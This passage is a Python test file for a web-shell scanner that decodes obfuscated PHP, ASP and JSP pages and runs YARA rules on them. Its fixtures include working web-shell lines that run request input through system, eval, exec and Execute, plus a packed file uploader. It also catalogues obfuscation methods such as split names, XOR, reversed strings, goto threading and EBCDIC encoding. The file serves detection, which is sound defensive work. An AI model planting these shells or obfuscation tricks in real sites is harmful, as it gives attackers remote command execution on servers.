    assert len(body.translate(None, blanks)) - len(kept.translate(None, blanks)) < unit


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=3000))
def test_blob_at_finds_only_long_base64_runs(data: bytes) -> None:
    at = stage.blob_at(data)
    if at is not None:
        run = data[at : at + stage.BLOB]
        assert len(run) == stage.BLOB
        assert all(
            c in b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/" for c in run
        )


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_decoder_aliases_name_only_decoders(data: bytes) -> None:
    found = payload.aliases(b"<?php $a = 'base64_decode'; " + data)
    assert found.get("a") == "base64_decode"
    assert set(found.values()) <= set(payload.TRANSFORMS)
    assert len(found) <= payload.ALIASES_MAX
    assert all(isinstance(o, int) for o in payload.alias_calls(data, found, 4))


@pytest.mark.parametrize(
    ("code", "cue"),
    [
        (b"<?php sy.'stem'($_GET[1]);", True),
        (b"<?php $k = 'W2vzV'^SJJs;", True),
        (b"<?php $n = ['6d6f76655f75706c6f616465645f66696c65'];", True),
        (b"<?php $a = 'sy'; $b = 'st'; $c = 'em';", True),
        (b"<?php $z = ''; $z .= 'UEQ5'; $z .= 'd2FI';", True),
        (b"<?php $u = implode('', array_map('chr', [115]));", True),
        (b'<?php $p = explode("|", $line); $q = $dir . $sep . $name;', False),
        (b"<?php $h = 'd41d8cd98f00b204e9800998ecf8427e'; echo PHP_EOL.'x';", False),
        (b"<?php $q = 'SELECT a'; $q .= ' FROM t WHERE b = 1';", False),
        (b'<% Set o = CreateObject("Scrip"&"tControl") %>', True),
        (b"<% o = 'java.lang.Run'  +\t'time'; %>", True),
        (b'<% x = "WScr" & "ipt.Shell" %>', True),
        (b'<% msg = "Total: " & n & " files" %>', False),
    ],
)
def test_small_page_cues(code: bytes, cue: bool) -> None:
    # What makes the decode stage fold a small page: shapes of code in pieces, not the
    # ordinary joins every page has (each cue costs a fold of the page).
    assert (small_page_cue(code) is not None) is cue


_CUE_TEXT = st.lists(
    st.sampled_from([b"'", b'"', b".", b" ", b"\t", b"(", b"^", b"|", b"=", b";", b"$", b"a", b"Sy", b"&", b"+",
                     b"STEM", b"implode", b"JOIN", b"chr", b"H*", b"array_map", b"pack", b"6", b"f",
                     b"]", b"$x[1]", b"${", b"\\", b"\\1", b"x4", b"5F", b"7a", b"\n", b".=", b"Ab",
                     b"substr", b"Str_Rot13", b"strtr", b"STRREV", b"base64_decode", b"hex2bin",
                     b"ucfirst", b"strtoUpper"]),
    max_size=60,
).map(b"".join)  # fmt: skip


@settings(max_examples=1500, deadline=None)
@given(_CUE_TEXT)
def test_small_page_cue_gates_never_hide_a_cue(code: bytes) -> None:
    # The substring gates only save regex passes: the first cue found is the one an ungated
    # search of every cue would find, whatever the case, quotes or spacing.
    from agent.decode.folding import SMALL_PAGE_CUES

    ungated = next((m.start() for _, p in SMALL_PAGE_CUES if (m := p.search(code))), None)
    assert small_page_cue(code) == ungated


@settings(max_examples=600, deadline=None)
@given(st.data())
def test_every_small_page_cue_passes_its_own_gate(data: st.DataObject) -> None:
    # Text drawn from each cue's own pattern (any case, quotes and blanks it allows) is found
    # as an ungated search finds it: a gate's needles are what every match must hold.
    from agent.decode.folding import SMALL_PAGE_CUES

    _, pattern = data.draw(st.sampled_from(SMALL_PAGE_CUES))
    code = data.draw(st.from_regex(pattern, fullmatch=False))
    ungated = next((m.start() for _, p in SMALL_PAGE_CUES if (m := p.search(code))), None)
    assert small_page_cue(code) == ungated


def test_plain_concatenation_in_a_benign_page_is_no_finding(
    ruleset: RuleSet, tmp_path: Path
) -> None:
    page = b"<?php echo 'a'.'b'.'c'.'d'; $x = \"1\" . \"2\" . \"3\"; ?>"
    assert scan(ruleset, tmp_path, "ok.php", page) == {}


PAD = b"\n<p>" + b"text " * 1000 + b"</p>\n"  # past the small-page cues: only the triggers count


@pytest.mark.parametrize(
    ("code", "folded"),
    [
        # a dot glued onto variables, or passed: what every page does
        (b"<?php $f = $a.'.'.$b; $g = $c.'.'.$d; $h = explode('.', $e); $i = $j.'.'.$k;", False),
        (b'<?php $v = $maj . "." . $min . "." . $rev; $w = $x . "+" . $y;', False),
        (b'<?php $m = "Hello"." "."World"."!"."Bye"." ";', False),  # words joined by spaces
        # a name or a payload cut inside its words
        (b'<?php $f = "gzin"."flate"; $g = "base"."64_de"."code"; $f($g($_POST["p"]));', True),
        (b"<?php $s = 'sy'.'s'.'te'.'m'; $s($_GET[1]);", True),
        # two cuts, and a XOR: the other trigger string decides as before
        (b"<?php $k = 'sy'.'st'; $n = 'W2v'^'SJJ';", True),
    ],
)
def test_fold_triggers_on_splits_inside_words(ruleset: RuleSet, code: bytes, folded: bool) -> None:
    data = code + PAD
    hits = stage.first_hits(data, list(ruleset.rules.match(data=data)), 64)
    assert ("fold" in hits) is folded


# --- Bounds: property and fuzz tests --------------------------------------------------------


def _explore(ruleset: RuleSet, data: bytes, limits: Limits) -> tuple[object, list[bytes]]:
    seen: list[bytes] = []

    def scan_layer(layer: bytes, seconds: float) -> list[object]:
        seen.append(layer)
        return list(ruleset.rules.match(data=layer, timeout=max(1, round(seconds))))

    found = list(ruleset.rules.match(data=data))
    return explore(data, found, scan_layer, limits), seen


hostile = st.one_of(
    st.binary(max_size=4000),
    st.lists(
        st.sampled_from([
            b"base64_decode('", b"gzinflate(", b"'", b'"', b"#@~^", b"AAAAAA==", b"^#~@", b"@&",
            b"Chr(65)&", b"'a'.", b"'^'", b"/**/", b"Select Case 1\n", b"Case 1\n", b"End Select",
            b"\\x41", b"String.fromCharCode(", b"66,", b")", b"eval(", b"QUFB", b"\n",
        ]),
        max_size=400,
    ).map(b"".join),
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(hostile)
def test_explore_never_crashes_and_stays_in_bounds(ruleset: RuleSet, data: bytes) -> None:
    limits = Limits(depth=3, layers=6, max_bytes=64 * 1024, min_bytes=16 * 1024, seconds=5.0)
    outcome, layers = _explore(ruleset, data, limits)
    assert len(layers) <= limits.layers
    assert sum(len(x) for x in layers) <= limits.byte_budget(len(data))
    assert all(len(path.split(" > ")) <= limits.depth for path in (o.path for o in outcome.layers))  # type: ignore[attr-defined]


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=2000), st.integers(1, 1 << 20))
def test_decoders_never_raise_and_respect_their_cap(data: bytes, cap: int) -> None:
    for fn in payload.TRANSFORMS.values():
        out = fn(data, cap)
        assert out is None or len(out) <= max(cap, 1) * 3
    out2 = decode_page(data, cap)
    assert out2 is None or len(out2) <= cap
    fold(data)


def test_gzinflate_bomb_stops_at_the_byte_budget(ruleset: RuleSet) -> None:
    bomb = zlib.compress(b"A" * (64 * 1024 * 1024), 9)[2:-4]  # 64 MiB of text in ~64 KB
    page = b"<?php eval(gzinflate(base64_decode('" + base64.b64encode(bomb) + b"'))); ?>"
    limits = Limits(max_bytes=1024 * 1024)
    _, layers = _explore(ruleset, page, limits)
    assert layers and sum(len(x) for x in layers) <= 1024 * 1024


def test_deep_nesting_stops_at_the_depth_limit(ruleset: RuleSet) -> None:
    code = b'@eval($_POST["k"]);'
    for _ in range(10):
        code = php_packed(code, "base64")
    outcome, layers = _explore(ruleset, code, Limits(depth=4))
    assert len(layers) == 4  # one layer per level, never deeper
    assert not outcome.layers  # the shell sits at depth 11: not reached, and that is the bound


# A packed shell whose first layer is judged critical, holding a packed uploader below it.
_UPLOADER = (
    b'<?php if(isset($_FILES["f"])){move_uploaded_file($_FILES["f"]["tmp_name"], $_POST["p"]);} ?>'
)
_TWO_DEEP = php_packed(
    b'<?php system($_GET["c"]); eval(base64_decode("' + base64.b64encode(_UPLOADER) + b'")); ?>',
    "base64",
)


def test_a_layer_that_settles_the_file_ends_the_decoding(ruleset: RuleSet) -> None:
    _, layers = _explore(ruleset, _TWO_DEEP, Limits())
    assert len(layers) >= 2  # the uploader's layer is reached when nothing settles
    seen: list[bytes] = []

    def scan_layer(layer: bytes, seconds: float) -> list[object]:
        seen.append(layer)
        return list(ruleset.rules.match(data=layer, timeout=max(1, round(seconds))))

    found = list(ruleset.rules.match(data=_TWO_DEEP))
    settled = explore(_TWO_DEEP, found, scan_layer, Limits(), settles=lambda f: bool(f))
    assert len(seen) == 1 and settled.stopped == "settled"


def test_decoding_stops_below_a_critical_layer(tmp_path: Path) -> None:
    (tmp_path / "r.yar").write_text(
        'rule T_Crit { meta: severity = "critical" strings: $a = "system($_GET" condition: $a }\n'
        'rule T_Upload { meta: severity = "high" strings: $a = "move_uploaded_file" condition: $a }\n'
    )
    rules = load_rules((tmp_path / "r.yar", TRIGGERS), default_rules=False)
    found = scan(rules, tmp_path, "two.php", _TWO_DEEP)
    assert found["T_Crit"] == "base64"  # critical on the first layer
    # the uploader one layer further down could change nothing but the list of names
    assert "T_Upload" not in found
    found = scan(rules, tmp_path, "one.php", php_packed(_UPLOADER, "base64"))
    assert found["T_Upload"] == "base64"  # found where nothing critical stands above it


def test_many_triggers_look_at_a_bounded_number_of_regions(ruleset: RuleSet) -> None:
    page = b"<?php " + b"base64_decode('QUJD'); " * 50_000
    _, layers = _explore(ruleset, page, Limits())
    assert len(layers) <= Limits().layers


def test_random_bytes_fuzz(ruleset: RuleSet) -> None:
    # Fixed-seed fuzz over larger inputs than hypothesis makes: mixtures of trigger atoms,
    # encoded blocks and noise. Nothing may raise; every run stays within the budget.
    rng = __import__("random").Random(1234)
    atoms = [b"#@~^", b"base64_decode('", b"gzinflate('", b"'", b"Chr(1", b"&", b"'.'", b"/**/",
             base64.b64encode(os.urandom(48)), script_encode(b"x=1"), b"\\x4", b"^"]  # fmt: skip
    for _ in range(40):
        data = b"".join(rng.choice(atoms) if rng.random() < 0.5 else os.urandom(rng.randrange(64))
                        for _ in range(rng.randrange(2000)))  # fmt: skip
        limits = Limits(max_bytes=256 * 1024)
        _, layers = _explore(ruleset, data, limits)
        assert sum(len(x) for x in layers) <= limits.byte_budget(len(data))


def test_rules_list_counts_decode_triggers_apart(cli: object) -> None:
    import json

    r = cli("rules", "list", "--format", "json")  # type: ignore[operator]
    assert r.code == 0
    names = {row["rule"] for row in json.loads(r.out)}
    assert names and not any(n.startswith("WSA_Decode_") for n in names)
    text = cli("rules", "list")  # type: ignore[operator]
    assert "plus 11 decode triggers" in text.out


@pytest.mark.parametrize("codec", ["utf-8", "gbk"])
def test_multibyte_pages_decode_in_their_code_page(codec: str) -> None:
    p1, p2 = b'Response.Write "', b'" : Response.End : Dim a : Set a = Server'
    wide = "中".encode(codec)  # 3 bytes in UTF-8, 2 in GBK; copied as is and not counted
    body = script_encode(p1 + p2)[12:-12]
    mixed = body[: len(p1)] + wide + body[len(p1) :]
    length = base64.b64encode(len(mixed).to_bytes(4, "little"))[:6]
    page = b"#@~^" + length + b"==" + mixed + b"AAAAAA==^#~@"
    assert decode_page(page, 4096) == p1 + wide + p2


@pytest.mark.parametrize(
    ("code", "telling"),
    [
        (b"/**\n * Docblock.\n */\nfunction f() {} // x = 1; /* note */\n", False),
        (b"print ('hello');", False),
        (b"ev/*x*/al($a);", True),
        (b"eval/**/ ($a);", True),
        (b"$f = ('sys'.'t'.'em');", True),
        (b"$f = 'sy'.'stem';", True),  # a sink's name in two pieces
        (b"$f = 'tmp'.'_name';", True),  # a word cut in two: names are cut to hide them
        (b"$f = 'Hello, '.'world' . \"\\n\";", False),  # text joined at a space or a mark
        (b"$f = 'a'.'b';", False),  # single characters
        (b"$m = ['a', 'b', 'c']; echo implode(', ', $m);", False),  # a list shown
        (b"$m = ['a', 'b']; $m[0] = 'c'; echo $m[0];", False),  # written to: no constant
        (b"$x = (PHP_EOL . SEP);", False),  # real constants glued
        (b"$s = ['sys', 'tem']; $f = join('', $s);", True),  # a sink's name joined
        (b"$c = 'ev'.'al($_'.'GET[1]);';", True),  # a sink's call no piece holds whole
        (b"$q = 'EXEC(' . 'sp_who' . ');';", False),  # one piece holds the whole call
        (b"$f = strrev('metsys');", True),  # a string function makes a sink's name
        (b"echo strtolower('Hello'); $t = substr('abc', 1);", False),  # and anything else
        (b"$h = 'd41d8cd98f00b204e9800998ecf8427e';", False),  # hex that spells no name
        (b"$a='x'; $a='y'; $b='q'; $c='r'; $f=$a.$b.$c;", False),  # reassigned: no constant
        (b"$p = $dir . $sep . $name;", False),  # variables glued that hold no literal
        (b"$q = 'SELECT a'; $q .= ' FROM t'; $q .= ' WHERE b = 1';", False),  # a query built up
        (b"$z = '';" + b"$z .= 'QUJD';" * 8, True),  # a payload cut into many short pieces
        # arrays pushed anything but literals, or written by index: no constants
        (
            b"$a = []; $a[] = 'x'; $a[] = $y; $b = []; $b[] = 'q'; $b[0] = 'r'; f($a[0], $b[0]);",
            False,
        ),
    ],
)
def test_only_folds_that_hide_code_make_a_layer(code: bytes, telling: bool) -> None:
    # An ordinary comment or a literal in parentheses is no reason to scan a fold layer.
    assert bool(fold(code).telling) is telling


def test_a_payload_found_verbatim_in_its_layer_is_not_scanned_again(ruleset: RuleSet) -> None:
    page = b"<?php $s = 'marker_word_in_plain_text'; echo strrev(strrev($s)); ?>"
    page += b" <?php echo strrev(strrev('marker_word_in_plain_text')); ?>"
    calls: list[bytes] = []

    def scan_(layer: bytes, seconds: float) -> list[object]:
        calls.append(layer)
        return list(ruleset.rules.match(data=layer))

    explore(page, list(ruleset.rules.match(data=page)), scan_)
    assert not any(b"marker_word" in c for c in calls)


# --- Declared charset (EBCDIC / UTF-16 / UTF-32 JSP) ---------------------------------------

JSP_BODY = '<% Runtime.getRuntime().exec(request.getParameter("c")); %>\n'
JSP_RULES = RULES + r'rule T_Jsp_Exec { strings: $a = "getRuntime().exec(request" condition: $a }'


@pytest.mark.parametrize(
    ("declared", "codec"),
    [("Cp037", "cp037"), ("IBM273", "cp273"), ("IBM01140", "cp1140"), ("x-IBM1047", "cp037"),
     ("ebcdic-cp-us", "cp037"), ("UTF-16BE", "utf-16-be"), ("UnicodeLittle", "utf-16-le")],
)  # fmt: skip
def test_a_page_in_its_declared_encoding_is_read_as_the_container_reads_it(
    declared: str, codec: str
) -> None:
    head = f'<%@ page pageEncoding="{declared}" %>'.encode("ascii")
    page = head + JSP_BODY.encode(codec)
    out = decode_declared(page, [page.index(b"pageEncoding")], 1 << 20)
    assert out is not None and out.startswith(head) and JSP_BODY.encode() in out


@pytest.mark.parametrize("codec", ["utf-16", "utf-32"])
def test_a_byte_order_mark_is_an_encoding_too(codec: str) -> None:
    out = decode_declared(JSP_BODY.encode(codec), [], 1 << 20)
    assert out is not None and JSP_BODY.encode() in out


@pytest.mark.parametrize("declared", ["UTF-8", "GBK", "IBM437", "Shift_JIS", "nonsense-99"])
def test_an_ascii_compatible_or_unknown_encoding_makes_no_layer(declared: str) -> None:
    page = f'<%@ page pageEncoding="{declared}" %>'.encode() + JSP_BODY.encode()
    assert decode_declared(page, [page.index(b"pageEncoding")], 1 << 20) is None


def test_an_ebcdic_shell_is_found_by_the_plain_rule_on_its_layer(tmp_path: Path) -> None:
    rs = rules_of(tmp_path, JSP_RULES)
    page = b'<%@ page contentType="text/html;charset=IBM500" %>' + JSP_BODY.encode("cp500")
    assert scan(rs, tmp_path, "x.jsp", page) == {"T_Jsp_Exec": "charset"}
    plain = b'<%@ page contentType="text/html;charset=IBM437" %><% out.print(1); %>'
    assert scan(rs, tmp_path, "y.jsp", plain) == {}


@settings(max_examples=150, deadline=None)
@given(
    st.binary(max_size=1500),
    st.lists(st.integers(0, 1600), max_size=5),
    st.integers(1, 1 << 16),
    st.sampled_from(["", 'pageEncoding="cp037"', "charset=UTF-16", "encoding='x-ibm1141'"]),
)
def test_the_charset_decoder_never_raises_and_respects_its_cap(
    data: bytes, offsets: list[int], cap: int, declaration: str
) -> None:
    page = declaration.encode() + data
    out = decode_declared(page, [0, *offsets], cap)
    assert out is None or len(out) <= cap


@given(st.text(max_size=40))
def test_any_encoding_name_is_resolved_or_refused(name: str) -> None:
    codec = codec_for(name)
    assert codec is None or isinstance(hides_ascii(codec), bool)


# --- JSP documents ------------------------------------------------------------------------

JSPX = b"""<?xml version="1.0"?>
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
<jsp:scriptlet>%s</jsp:scriptlet>
</jsp:root>
"""
CODE = b' Runtime.getRuntime().exec(request.getParameter("c"));'


@pytest.mark.parametrize(
    "hidden",
    [
        CODE.replace(b"Runtime", b"Run<![CDATA[time]]>", 1).replace(b"exec", b"ex<![CDATA[ec]]>"),
        b"".join(b"&#x%x;" % c for c in CODE),
        b"".join(b"&#%d;" % c for c in CODE[:20]) + CODE[20:],
    ],
    ids=["cdata-split", "hex-references", "decimal-references"],
)
def test_a_jsp_document_is_read_as_the_container_reads_it(tmp_path: Path, hidden: bytes) -> None:
    rs = rules_of(
        tmp_path,
        'rule T_Jspx_Exec { strings: $a = "<% Runtime.getRuntime().exec(request" condition: $a }',
    )
    assert scan(rs, tmp_path, "d.jspx", JSPX % hidden) == {"T_Jspx_Exec": "jspx"}


def test_an_element_left_open_does_not_stop_the_other_kinds() -> None:
    page = b"<jsp:declaration>&#65;" + JSPX % b"&#x52;&#x75;n"
    out = decode_document(page, 1 << 20)
    assert out is not None and b"<%Run%>" in out and b"<jsp:declaration>&#65;" in out


def test_a_plain_jsp_document_makes_no_layer() -> None:
    assert (
        decode_document(JSPX % b' out.println("&lt;b&gt;");'.replace(b"&", b"x"), 1 << 20) is None
    )


_XML_PIECES = st.sampled_from(
    [b"&#x52;", b"&#82;", b"&#x1F600;", b"&#0;", b"&#9999999;", b"&lt;", b"&amp;", b"&quot;",
     b"&apos;", b"&gt;", b"&#x;", b"&#xD800;", b"&nbsp;", b"<![CDATA[", b"]]>", b"&", b"a", b";", b"<", b"]"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(_XML_PIECES, max_size=40).map(b"".join))
def test_a_jsp_element_is_read_as_an_xml_parser_reads_it(body: bytes) -> None:
    # What the container hands to Java: CDATA markers gone, each reference read (html.unescape
    # stands for the XML parser: the same numeric and five named references).
    import html
    import re

    text = re.sub(rb"<!\[CDATA\[|\]\]>", b"", body)
    text = re.sub(
        rb"&(#[0-9]{1,7}|#[xX][0-9a-fA-F]{1,6}|lt|gt|amp|quot|apos);",
        lambda m: html.unescape(m.group(0).decode()).encode("utf-8", "replace"),
        text,
    )
    out = decode_document(JSPX % body, 1 << 20)
    if text == body:
        assert out is None
    else:
        page = JSPX % text
        assert out == page.replace(b"<jsp:scriptlet>", b"<%").replace(b"</jsp:scriptlet>", b"%>")


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400), st.integers(0, 2000))
def test_the_jsp_document_reader_never_raises_and_respects_its_cap(data: bytes, cap: int) -> None:
    out = decode_document(JSPX % data, cap)
    assert out is None or len(out) <= cap


# --- goto-threaded PHP ----------------------------------------------------------------------


def _threaded(statements: list[bytes], seed: int) -> bytes:
    """The statements as a yakpro-po-style page: each labelled, shuffled, chained by goto."""
    import random

    labels = [b"L%04d" % (seed * 1000 + i) for i in range(len(statements) + 1)]
    pieces = [
        labels[i] + b": " + s + b" goto " + labels[i + 1] + b";" for i, s in enumerate(statements)
    ]
    random.Random(seed).shuffle(pieces)
    return b"<?php goto " + labels[0] + b"; " + b" ".join(pieces) + b" " + labels[-1] + b": ?>"


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_goto_threaded_statements_are_put_back_in_running_order(tmp_path: Path, seed: int) -> None:
    rs = rules_of(
        tmp_path,
        'rule T_Goto_Chain { strings: $a = /\\$c = \\$_POST\\["c"\\];\\s+\\$f = "sys"/ '
        "condition: $a }",
    )
    page = _threaded(
        [b'$c = $_POST["c"];', b'$f = "sys";', b'$f .= "tem";', b"$f($c);", b"echo 1;"], seed
    )
    assert scan(rs, tmp_path, "g.php", page) == {"T_Goto_Chain": "goto"}


def _linear(page: bytes) -> bytes:
    out = gotoflow.linearize(page, 1 << 20)
    assert out is not None
    return out


def test_conditional_targets_and_strings_keep_their_text() -> None:
    out = _linear(
        b'<?php goto a; b: echo "x: goto z;"; goto c; a: if ($q) { goto d; } goto b; '
        b"c: $y = 1; goto e; d: $y = 2; goto e; e: exit;"
    )
    # the chain from the top, then the conditional target nothing jumped to unconditionally
    assert out.index(b"if ($q)") < out.index(b'echo "x: goto z;"') < out.index(b"$y = 1;")
    assert out.index(b"$y = 1;") < out.index(b"exit;") < out.index(b"$y = 2;")


def test_a_piece_jumps_at_its_first_sure_goto() -> None:
    # dead gotos after the jump (jiamiphp pads pieces so); a goto after an unbraced `if` or
    # inside a block may not jump, the piece goes on
    out = _linear(
        b"<?php goto a; b: echo 2; goto c; goto z; a: echo 1; goto b; goto y; "
        b"c: if ($q) goto d; echo 3; { goto e; } echo 4; goto e; d: echo 5; e: exit; y: z: echo 9;"
    )
    order = [out.index(x) for x in (b"echo 1;", b"echo 2;", b"if ($q)", b"echo 4;", b"exit;")]
    assert order == sorted(order)
    assert b"goto b" not in out and b"goto c" not in out and b"goto z" not in out
    assert out.index(b"exit;") < out.index(b"echo 5;")


def test_a_page_with_few_gotos_makes_no_layer() -> None:
    assert gotoflow.linearize(b"<?php a: echo 1; goto a; b: goto b;", 1 << 20) is None


# --- fold windows ---------------------------------------------------------------------------


def test_a_php_fold_window_runs_on_to_the_statement_end_past_line_breaks() -> None:
    literal = b'"' + b"QUJD\n" * 2000 + b'"'
    page = b"<?php " + b"$pad = 1;\n" * 1000 + b"$x = base64_decode(" + literal + b");\n"
    near = stage.windows(page, [page.index(b"base64_decode")], 64, whole=1024, to_end=1 << 20)
    assert literal in near


def test_a_decoded_payload_is_folded_whole_not_in_windows(ruleset: RuleSet, tmp_path: Path) -> None:
    # more escape sites than the trigger offsets looked at, spread over 12 KB: the name hidden
    # in the last one is out of every window of a file, but a decoded layer is folded whole
    filler = b"".join(
        b'$v%d = "\\x61\\x62\\x63";\n' % i + b"// " + b"." * 200 + b"\n" for i in range(48)
    )
    code = b"<?php\n" + filler + b'$f = "\\x65\\x78\\x65\\x63_marker_word"; $f(1);\n'
    found = scan(ruleset, tmp_path, "p.php", php_packed(code, "base64"))
    assert found == {"T_Exec_Word": "base64 > fold"}


# --- names above ASCII ----------------------------------------------------------------------


def test_php_names_above_ascii_are_renamed_for_the_rules(tmp_path: Path) -> None:
    rs = rules_of(
        tmp_path,
        "rule T_Named { strings: "
        "$a = /\\$[a-zA-Z_]\\w{0,9} = \\$_POST\\['c'\\]; system\\(\\$[a-zA-Z_]\\w{0,9}\\)/ "
        "condition: $a }",
    )
    for name in ("命令".encode(), "команда".encode()):
        page = b"<?php $%s = $_POST['c']; system($%s); $%s = 1;" % (name, name, "其他".encode())
        assert scan(rs, tmp_path, "n.php", page) == {"T_Named": "names"}


def test_the_same_name_gets_the_same_ascii_name_and_strings_need_no_layer() -> None:
    out = names.ascii_names("<?php $变量 = 1; echo $变量 . $数; 加载($变量);".encode(), 1 << 20)
    assert out == b"<?php $n1 = 1; echo $n1 . $n2; n3($n1);"
    assert names.ascii_names('<?php echo "上传成功"; $ok = 1;'.encode(), 1 << 20) is None


def test_an_encoders_byte_names_get_no_layer() -> None:
    # commercial encoders name their stub's variables with bytes that are no text; renaming
    # them shows the rules the stub (eval of a variable's call), which applications ship too
    stub = b"<?php $\xb9\xe0\xa1 = $\xc4\xac('x'); $\xd1\xa4\xff = 1; eval($\xb9\xe0\xa1('y'));"
    assert stage.names_at(stub) is None
    assert stage.names_at("<?php $结果 = 1; $地址 = 2;".encode()) == 6


# --- whitespace padding ---------------------------------------------------------------------


def test_a_page_padded_with_blanks_is_squeezed(tmp_path: Path) -> None:
    rs = rules_of(
        tmp_path,
        'rule T_Small_System { strings: $a = "system($_GET" condition: filesize < 1KB and $a }',
    )
    page = b"<?php" + b" " * 30000 + b"\n" + b"\t" * 20000 + b"system($_GET['c']);" + b" " * 9000
    assert scan(rs, tmp_path, "p.php", page) == {"T_Small_System": "padding"}


def test_a_page_with_some_alignment_is_no_padded_page() -> None:
    page = b"<?php\n" + b"$a = 1;\n" * 200 + b" " * 300 + b"\n$b = 2;\n"
    assert padding.padded_at(page) is not None
    assert padding.squeeze(page, 1 << 20) is None


def test_a_call_spaced_from_its_name_is_closed_up(tmp_path: Path) -> None:
    rs = rules_of(tmp_path, "rule T_Eval_Page { strings: $a = \"eval('?>'\" condition: $a }")
    page = b"<?php $a = fetch_page('x');\neval    ('?>'.$a);\n"
    assert scan(rs, tmp_path, "g.php", page) == {"T_Eval_Page": "gap"}
    assert padding.ungap(b"<?php eval('x'); if ($a) { f(1); }", 1 << 20) is None


@pytest.mark.parametrize(
    ("decode", "head"),
    [
        (gotoflow.linearize, b"goto a; a: goto b; b: goto c; c: goto d; d: "),
        (names.ascii_names, b"<?php $\xe4\xb8\x80 = $\xe4\xba\x8c; "),
        (padding.squeeze, b" " * 600),
        (padding.ungap, b"eval     ("),
        (cstyle.normalise, b"<% \\u0052untime /**/ .exec("),
        (vbscript.normalise, b"<% Execute Request.Item( _\n"),
        (phpspelling.normalise, b"<?php \\eval(/**/$GLOBALS['_POST'][$_SERVER['HTTP_X_A']]); "),
        (varnames.resolve, b'<?php $GLOBALS["k"] = "c"; $v = "d"; ${$v} = ${${"GLOBALS"}["k"]}; '),
    ],
    ids=["goto", "names", "padding", "gap", "cstyle", "vbscript", "php-spelling", "varnames"],
)
@settings(max_examples=300, deadline=None)
@given(data=st.binary(max_size=600), cap=st.integers(0, 2000))
def test_whole_page_decoders_never_raise_and_respect_their_cap(
    decode: Callable[[bytes, int], bytes | None], head: bytes, data: bytes, cap: int
) -> None:
    out = decode(head + data, cap)
    assert out is None or len(out) <= cap


# --- C-style and VBScript spelling ----------------------------------------------------------

EXEC_RULES = r"""
rule T_Jsp_Exec { strings: $a = "Runtime.getRuntime().exec(request" condition: $a }
rule T_Asp_Exec { strings: $a = "Execute(Request(\"" nocase condition: $a }
rule T_ScriptControl { strings: $a = "CreateObject(\"ScriptControl\")" nocase condition: $a }
rule T_Unescape { strings: $a = "unescape(\"eval" nocase condition: $a }
rule T_Php_Exec { strings: $a = /[^\\]system\(\$_REQUEST\[/ condition: $a }
"""


@pytest.fixture(scope="module")
def exec_rules(tmp_path_factory: pytest.TempPathFactory) -> RuleSet:
    d = tmp_path_factory.mktemp("rules")
    (d / "t.yar").write_text(EXEC_RULES)
    return load_rules((d, TRIGGERS), default_rules=False)


JAVA_EXEC = {"T_Jsp_Exec": "cstyle"}
ASP_EXEC = {"T_Asp_Exec": "vbscript"}


@pytest.mark.parametrize(
    ("name", "page", "found"),
    [
        # Java reads \\u escapes before any token, with any number of u
        ("a.jsp", b'<%@ page import="java.io.*" %><% \\u0052untime.\\uu0067etRuntime().exec(request'
         b'.getParameter("c")); %>', JAVA_EXEC),
        # a comment and line breaks inside the member chain
        ("a.jsp", b'<% Runtime\n   /**/.getRuntime()\n   .exec(request.getParameter("c")); %>', JAVA_EXEC),
        ("a.jsp", b"<% Runtime. /* x */ getRuntime() . exec (request.getParameter(1)); %>", JAVA_EXEC),
        # VBScript's default property, and statements continued over lines
        ("a.asp", b'<% Execute(Request.Item("c")) %>', ASP_EXEC),
        ("a.asp", b'<% Execute(Request . Item ("c")) %>', ASP_EXEC),
        ("a.asp", b'<% Execute( _\r\n   Request("c")) %>', ASP_EXEC),
    ],
    ids=["escapes", "line-breaks", "comments", "item", "spaced-item", "continued"],
)  # fmt: skip
def test_code_in_another_spelling_is_read_as_its_runtime_reads_it(
    exec_rules: RuleSet, tmp_path: Path, name: str, page: bytes, found: dict[str, str]
) -> None:
    assert scan(exec_rules, tmp_path, name, page) == found


def test_ordinary_java_gets_no_cstyle_layer(exec_rules: RuleSet, tmp_path: Path) -> None:
    page = b'<% String s = "a\\u00e9"; // note\nout.println(s.length()); %>'
    assert cstyle.normalise(b"<% out.println(s.length()); %>", 1 << 20) is None
    assert scan(exec_rules, tmp_path, "b.jsp", page) == {}


def test_escapes_outside_printable_ascii_stay() -> None:
    assert cstyle.normalise(b"<% a\\u0000b \\u00e9 %>", 1 << 20) is None
    assert cstyle.normalise(b"<% \\u0041 %>", 1 << 20) == b"<% A %>"


def test_vbscript_spelling_keeps_collections_and_words_apart() -> None:
    out = vbscript.normalise(b'<% a = Request.Form . Item("c")\nIf a _\n  And b Then %>', 1 << 20)
    assert out == b'<% a = Request.Form("c")\nIf a And b Then %>'


@pytest.mark.parametrize(
    "read",
    [b"$_SERVER['HTTP_X_CMD']", b'$_SERVER["HTTP_CMD"]', b"$GLOBALS['_POST']['c']",
     b"${'_GET'}['c']", b"$HTTP_POST_VARS['c']", b"GetAllHeaders()['X-Cmd']",
     b"apache_request_headers() ['cmd']"],
    ids=["custom-header", "header", "globals", "braced", "old-vars", "getallheaders", "apache"],
)  # fmt: skip
def test_a_request_read_in_another_spelling_is_read_as_the_request(
    exec_rules: RuleSet, tmp_path: Path, read: bytes
) -> None:
    page = b"<?php if (isset(" + read + b")) { system(" + read + b"); }"
    assert scan(exec_rules, tmp_path, "h.php", page) == {"T_Php_Exec": "php-spelling"}


def test_headers_every_client_sends_are_not_restated(exec_rules: RuleSet, tmp_path: Path) -> None:
    # applications read these all the time; a sink fed by one is the plain rules' to judge
    page = b"<?php system($_SERVER['HTTP_USER_AGENT']); echo $_SERVER[\"HTTP_X_FORWARDED_FOR\"];"
    assert phpspelling.cue_at(page) is None
    assert phpspelling.normalise(page, 1 << 20) is None
    assert scan(exec_rules, tmp_path, "u.php", page) == {}
    # nor is anything outside PHP
    assert phpspelling.cue_at(b'<% x = Request.ServerVariables("HTTP_X_CMD") %>') is None


@pytest.mark.parametrize(
    "call",
    [
        b"\\system($_REQUEST['c'])",
        b"system(/**/$_REQUEST['c'])",
        b"\\system( /* x */ $_REQUEST['c'])",
